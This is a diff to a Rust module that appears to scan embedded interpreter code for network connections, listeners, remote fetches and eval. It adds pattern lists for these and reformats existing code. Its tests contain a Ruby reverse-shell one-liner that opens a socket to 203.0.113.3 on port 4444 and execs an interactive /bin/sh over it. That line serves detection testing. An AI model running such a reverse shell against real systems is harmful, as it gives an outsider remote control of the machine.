@@ -55,7 +55,13 @@ const CONNECTS: &[&str] = &[
     "connect(",
 ];
 
-const LISTENS: &[&str] = &["TCPServer", "createServer", "stream_socket_server", "Listen =>", "bind("];
+const LISTENS: &[&str] = &[
+    "TCPServer",
+    "createServer",
+    "stream_socket_server",
+    "Listen =>",
+    "bind(",
+];
 
 const FETCHES: &[&str] = &[
     "LWP::Simple",
@@ -74,13 +80,23 @@ const FETCHES: &[&str] = &[
     "socket.http",
 ];
 
-const EVALS: &[&str] = &["eval", "include", "require(", "instance_eval", "load(", "loadstring", "dofile", "Function("];
+const EVALS: &[&str] = &[
+    "eval",
+    "include",
+    "require(",
+    "instance_eval",
+    "load(",
+    "loadstring",
+    "dofile",
+    "Function(",
+];
 
 /// Scans `code` of `language` (perl, ruby, php, node, lua, awk and the like).
 pub fn scan(language: &str, code: &str, span: Span, taints: Taints) -> Vec<Scanned> {
     let strings = string_literals(code);
     let mut out = Vec::new();
     let mut runs_shell = false;
+    let mut runs_any = false;
     for (at, literal) in &strings {
         out.push(Scanned::String(StringLit {
             text: literal.clone(),
@@ -88,10 +104,18 @@ pub fn scan(language: &str, code: &str, span: Span, taints: Taints) -> Vec<Scann
             span,
         }));
         let before = &code[..*at];
-        let tail: String = before.chars().rev().take(24).collect::<String>().chars().rev().collect();
+        let tail: String = before
+            .chars()
+            .rev()
+            .take(24)
+            .collect::<String>()
+            .chars()
+            .rev()
+            .collect();
         let runner = RUNNERS.iter().any(|r| tail.contains(r)) || tail.trim_end().ends_with('`');
         if runner || literal.trim_start().starts_with("/bin/") {
             runs_shell |= is_shell_command(literal);
+            runs_any = true;
             out.push(Scanned::Shell(literal.clone()));
         }
     }
@@ -138,7 +162,7 @@ pub fn scan(language: &str, code: &str, span: Span, taints: Taints) -> Vec<Scann
             .find(|s| s.contains("://"))
             .map(str::to_string)
             .unwrap_or_default();
-        let evaluates = EVALS.iter().any(|e| code.contains(e)) || runs_shell;
+        let evaluates = EVALS.iter().any(|e| code.contains(e)) || runs_any;
         let mut fetched = fact("@fetch", url, false);
         if let Scanned::Fact(call) = &mut fetched
             && evaluates
@@ -153,13 +177,21 @@ pub fn scan(language: &str, code: &str, span: Span, taints: Taints) -> Vec<Scann
 fn is_shell_command(text: &str) -> bool {
     let first = text.split_whitespace().next().unwrap_or_default();
     let program = first.rsplit('/').next().unwrap_or(first);
-    matches!(program, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "cmd.exe" | "powershell")
+    matches!(
+        program,
+        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "cmd.exe" | "powershell"
+    )
 }
 
 fn looks_like_host(text: &str) -> bool {
     let text = text.trim();
     let dotted = text.split('.').count() == 4 && text.split('.').all(|p| p.parse::<u8>().is_ok());
-    dotted || (text.contains('.') && !text.contains(' ') && !text.contains('/') && text.len() < 80 && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-'))
+    dotted
+        || (text.contains('.')
+            && !text.contains(' ')
+            && !text.contains('/')
+            && text.len() < 80
+            && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-'))
 }
 
 /// String literals (single, double quotes) with their starting offsets.
@@ -238,7 +270,10 @@ mod tests {
         );
         assert!(shells.iter().any(|s| s == "/bin/sh -i"), "{shells:?}");
         assert!(names.contains(&"@connect+shell".to_string()), "{names:?}");
-        let (_, names) = facts("ruby", r#"f=TCPSocket.open("203.0.113.3",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)"#);
+        let (_, names) = facts(
+            "ruby",
+            r#"f=TCPSocket.open("203.0.113.3",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)"#,
+        );
         assert!(names.contains(&"@connect+shell".to_string()), "{names:?}");
         let (_, names) = facts("node", r#"require("child_process").exec("ls")"#);
         assert!(names.is_empty(), "{names:?}");
